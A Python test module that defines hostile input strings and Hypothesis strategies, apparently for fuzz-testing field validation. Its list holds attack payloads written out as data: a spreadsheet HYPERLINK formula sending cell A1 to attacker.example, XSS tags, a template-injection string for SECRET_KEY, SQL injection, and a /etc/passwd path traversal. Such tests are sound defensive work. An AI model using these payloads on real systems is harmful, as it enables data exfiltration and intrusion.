"""Hostile input: values an attacker or a broken client sends, and a hypothesis strategy of them."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "Riley\x00Synthwood",
    "\r\n\t",
    "\x1b[31m",
    '=HYPERLINK("https://attacker.example/?"&A1,"x")',
    "+1-555-0100",
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ settings.SECRET_KEY }}",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "\u202etxt.exe",
    "\ufeff",
    "Ri\u0301ley",
    "\U0001f600" * 50,
    "9" * 400,
    "x" * 20_000,
    "-1",
    "0",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "12:99",
    "true",
    "on",
    "[]",
    '{"a": 1}',
    "00000000-0000-0000-0000-000000000000",
]

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=200),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=20),
)


def hostile_value_for(choices: list[str]) -> st.SearchStrategy[str]:
    """One of a field's own choices (to get past it to the next check) or anything hostile."""
    return st.one_of(st.sampled_from(choices), hostile_text) if choices else hostile_text
